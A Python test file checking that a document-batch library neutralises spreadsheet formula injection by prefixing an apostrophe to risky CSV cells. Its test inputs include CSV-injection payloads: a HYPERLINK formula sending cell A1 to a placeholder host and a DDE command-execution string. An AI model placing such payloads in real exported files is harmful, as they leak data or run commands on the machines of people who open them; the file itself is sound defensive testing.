"""No CSV or XLSX cell the library writes runs as a formula in a spreadsheet (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from rembuk_docs.batch import render_batch
from rembuk_docs.formulas import neutralise, neutralise_row

from conftest import BATCH_COLUMNS, SAMPLES

TEMPLATE = SAMPLES / "rembuk-desa.yaml"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.test/?"&A1,"klik")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\uff1d1+1",
    ],
)
def test_a_formula_start_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Oelnasi", "", "Rp1.000", 7, 2.5, None, "a=b"])
def test_everything_else_is_kept(value: object) -> None:
    assert neutralise(value) == value


def test_each_cell_of_a_row_is_neutralised_and_other_values_kept() -> None:
    assert neutralise_row(["=1", 3, "x"]) == ["'=1", 3, "x"]


def test_errors_csv_carries_no_formula(tmp_path: Path) -> None:
    columns = BATCH_COLUMNS
    rows = [
        (
            '=HYPERLINK("http://127.0.0.1/x","Oelnasi")',
            "+cmd|' /C calc'!A0",
            "",
            "@KPM",
            900_000_000,
            200_000_000,
            "2024-07-11",
        ),
    ]
    sheet = tmp_path / "desa.csv"
    with sheet.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(columns)
        writer.writerows(rows)
    out = tmp_path / "out"
    result = render_batch(sheet, TEMPLATE, out)
    assert result.failures
    text = (out / "errors.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert '\'=HYPERLINK("http://127.0.0.1/x","Oelnasi")' in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
